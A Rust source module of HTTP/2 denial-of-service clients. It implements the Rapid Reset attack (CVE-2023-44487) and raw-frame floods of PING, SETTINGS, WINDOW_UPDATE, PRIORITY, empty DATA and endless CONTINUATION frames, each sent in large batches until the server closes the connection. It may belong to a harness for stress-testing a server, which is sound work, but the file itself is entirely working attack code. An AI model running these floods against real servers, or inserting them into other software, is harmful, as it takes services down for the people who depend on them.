//! Those who send what costs work and carries nothing.

use std::net::SocketAddr;

use h2::Reason;
use h2::client::Builder;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::timeout;

use crate::raw::{self, DECIDE, HOLD};

/// Frames that are written at once.
const BATCH: usize = 2_000;

/// Begins calls and takes each back (CVE-2023-44487).
pub(crate) async fn rapid_resets(address: SocketAddr) {
    let Some(mut sender) = raw::http2(address, &Builder::new()).await else {
        return;
    };
    while let Ok(Ok(ready)) = timeout(HOLD, sender.ready()).await {
        sender = ready;
        let Ok((_, mut body)) = sender.send_request(raw::call(address, DECIDE), false) else {
            return;
        };
        body.send_reset(Reason::CANCEL);
        tokio::task::yield_now().await;
    }
}

pub(crate) async fn pings(address: SocketAddr) {
    flood(address, b"", b"\0\0\x08\x06\0\0\0\0\0opaquely").await;
}

pub(crate) async fn settings(address: SocketAddr) {
    flood(address, b"", b"\0\0\0\x04\0\0\0\0\0").await;
}

pub(crate) async fn window_updates(address: SocketAddr) {
    flood(address, b"", b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01").await;
}

pub(crate) async fn priorities(address: SocketAddr) {
    flood(address, b"", b"\0\0\x05\x02\0\0\0\0\x05\0\0\0\0\x01").await;
}

/// A call's headers in HPACK without a table: `:method: POST`, `:scheme: http`, `:path: /`.
const HEADERS: &[u8] = b"\0\0\x03\x01\x04\0\0\0\x01\x83\x86\x84";
/// Headers that go on.
const OPEN_HEADERS: &[u8] = b"\0\0\x03\x01\0\0\0\0\x01\x83\x86\x84";

pub(crate) async fn empty_data(address: SocketAddr) {
    flood(address, HEADERS, b"\0\0\0\0\0\0\0\0\x01").await;
}

pub(crate) async fn continuations(address: SocketAddr) {
    flood(address, OPEN_HEADERS, b"\0\0\0\x09\0\0\0\0\x01").await;
}

/// Sends `frame` again and again after `first`, and reads what comes back, until the connection
/// is closed.
async fn flood(address: SocketAddr, first: &[u8], frame: &[u8]) {
    let Some(socket) = raw::greeted(address).await else {
        return;
    };
    let (mut reader, mut writer) = socket.into_split();
    let reading = tokio::spawn(async move {
        let mut buffer = [0; 16 * 1024];
        while matches!(reader.read(&mut buffer).await, Ok(count) if count > 0) {}
    });
    let frames = frame.repeat(BATCH);
    if writer.write_all(first).await.is_ok() {
        while matches!(timeout(HOLD, writer.write_all(&frames)).await, Ok(Ok(()))) {}
    }
    reading.abort();
}
